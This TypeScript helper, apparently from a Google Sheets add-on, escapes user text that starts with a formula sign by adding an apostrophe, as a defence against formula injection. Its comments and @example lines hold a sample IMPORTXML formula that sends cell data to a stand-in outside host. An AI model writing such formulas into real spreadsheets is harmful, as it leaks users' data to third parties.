// Makes a user's text safe to write back into a cell: it stays the text they typed, never a formula.
//
// Range.setValue / setValues enter a string as if it were typed into the cell: Apps Script
// documents that a value beginning with "=" is interpreted as a formula, and text starting with
// "+", "-" or "@" is parsed as typed entries are (spreadsheets read those as formula starts too).
// So a keyword cell holding the text =IMPORTXML("https://x.example/?q="&A1,"//a"), copied by a
// script, would become a live formula that sends the sheet's data out. A leading apostrophe is Sheets' own marker for "this is
// text": the cell shows the text without it, getValues returns the text without it, formulas that
// read the cell see that text, and only the formula bar shows the apostrophe — which is why it is
// used here rather than a changed text (a space or a symbol in front) or a plain-text number
// format (that would change the user's formatting).

/**
 * A text that could be entered as something else than itself: it starts (after any spaces) with
 * a formula sign — = + - @, or their full-width forms a Chinese input method types — or with an
 * apostrophe, which Sheets would otherwise take as the marker and drop. Anchored, with nothing
 * to backtrack into: linear in the text's length.
 */
const FORMULA_START = /^\s*[=+\-@'＝＋－＠]/;

/**
 * The value to write so the cell holds exactly the text the user typed: a text that starts like
 * a formula gets a leading apostrophe; other texts, numbers (a negative number stays a number),
 * dates, booleans and blanks are returned unchanged. Use it for every user text the add-on copies
 * into a cell; never for the add-on's own formulas (=TODAY()+n).
 * @example safeCellValue('=IMPORTXML("https://x.example","//a")') === '\'=IMPORTXML("https://x.example","//a")'
 * @example safeCellValue('yoga mat') === 'yoga mat'
 * @example safeCellValue(-5) === -5
 */
export function safeCellValue<T>(value: T): T | string {
  if (typeof value !== 'string') return value;
  return FORMULA_START.test(value) ? `'${value}` : value;
}
